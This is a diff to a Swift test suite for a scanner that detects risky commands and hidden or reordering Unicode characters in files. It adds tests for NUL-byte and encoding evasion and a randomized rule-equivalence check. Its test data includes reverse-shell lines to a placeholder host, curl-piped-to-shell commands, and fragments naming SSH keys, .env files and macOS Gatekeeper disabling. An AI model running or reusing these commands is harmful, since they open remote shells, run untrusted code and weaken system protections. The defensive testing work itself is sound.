@@ -54,6 +54,7 @@ import Testing
       ]
     ),
     (.reverseShell, ["bash -i >& /dev/tcp/x.example/4444 0>&1", "nc x.example 4444 -e /bin/sh"]),
+    (.unreadable, []),
     (.hiddenText, ["Hello\u{E0068}\u{E0069}"]),
     (.reorderedText, ["if admin\u{202E} {", "\u{2066}x"]),
   ]
@@ -104,14 +105,58 @@ import Testing
     let line = "curl https://x.example | sh\n"
     let many = Array(String(repeating: line, count: 500).utf8)
     #expect(scanner.sightings(in: many, file: "x").count == KnownRisk.maximumRepeats)
-    #expect(scanner.sightings(in: Array(line.utf8) + [0], file: "x").isEmpty)
-    #expect(scanner.sightings(in: Array(line.utf8) + [0xFF], file: "x").isEmpty)
     let large = Array(line.utf8) + [UInt8](repeating: 0x20, count: KnownRisk.maximumBytes)
     #expect(scanner.sightings(in: large, file: "x").isEmpty)
   }
 
+  /// Shells pass over NUL bytes, and take bytes that are no text for what they are.
   @Test(arguments: [
-    "curl ", "curl | ", "zip pass ", "base64 -d ", "eval $(", "a.b/", "\\\n", "|\n", "nc -e ", "\u{E0041}",
+    Array("curl https://x.example | sh\n".utf8) + [0], [0xFF] + Array("curl https://x.example | sh\n".utf8),
+    Array("cu\0rl https://x.example | s\0h".utf8), Array("\u{FEFF}curl x | \0\nsh".utf8),
+    Array("curl https://x.example | sh".utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] },
+    Array(String(repeating: " ", count: 10_000).utf8) + Array("curl https://x.example | sh # ".utf8)
+      + [UInt8](repeating: 0x78, count: 10_000),
+  ])
+  func `no byte takes a file out of sight`(bytes: [UInt8]) {
+    #expect(RiskScanner().sightings(in: bytes, file: "x").map(\.rule) == [.downloadToShell])
+  }
+
+  /// The clues that are found in one pass leave nothing out: every rule tried on every command finds the same.
+  @Test func `finds what trying every rule on every line finds`() {
+    var random = SplitMix64(seed: 7)
+    let pieces =
+      Self.samples.flatMap(\.1)
+      + [
+        "curl ", "wget", "| ", "sh", "bash -i", "python3", "$(", "`", "eval ", "iwr", "iex", "base64 -d", "-p", "-P x",
+        "7z x", "unzip ", "zip", "password: x", "http://91.92.242.30", "://8", "xattr -d ", "com.apple.quarantine",
+        ".env", "~/.ssh/id_rsa", "nc ", "nc\\", "-e sh", "/dev/tcp/", "\n", "\r\n", "\r", "\\\n", "|\n", ";", " ", "ä",
+        "\u{E0041}", "\u{202E}", "CURL ", "SH", "\u{212A}sh", "exec(", "atob(", "spctl --master-disable", "x y z ",
+      ]
+    let patterns = RiskPattern.all
+    for _ in 0..<2_000 {
+      let text = (0..<Int.random(in: 1...9, using: &random)).map { _ in pieces.randomElement(using: &random)! }.joined()
+      let bytes = Array(text.utf8)
+      var expected: [String] = []
+      for (line, command) in RiskScanner.commands(in: SourceLines(bytes)) {
+        var rules: [KnownRisk.Rule] = []
+        for pattern in patterns where !rules.contains(pattern.rule) {
+          if pattern.matches(command) { rules.append(pattern.rule) }
+        }
+        if HiddenCharacters.sighting(in: command)?.hasTags == true { rules.append(.hiddenText) }
+        let reorders = command.unicodeScalars.contains {
+          (0x202A...0x202E).contains($0.value) || (0x2066...0x2069).contains($0.value)
+        }
+        if reorders { rules.append(.reorderedText) }
+        expected += rules.map { "\(line) \($0.rawValue)" }
+      }
+      let found = RiskScanner().sightings(in: bytes, file: "x").map { "\($0.line) \($0.rule.rawValue)" }
+      #expect(found == expected, "\(text.debugDescription)")
+    }
+  }
+
+  @Test(arguments: [
+    "curl ", "curl | ", "curl | sh- ", "zip pass ", "base64 -d ", "eval $(", "a.b/", "\\\n", "|\n", "nc -e ",
+    "\u{E0041}",
   ])
   func `a hostile line does not hold it up`(piece: String) {
     let bytes = Array(String(repeating: piece, count: 60_000 / piece.utf8.count).utf8)
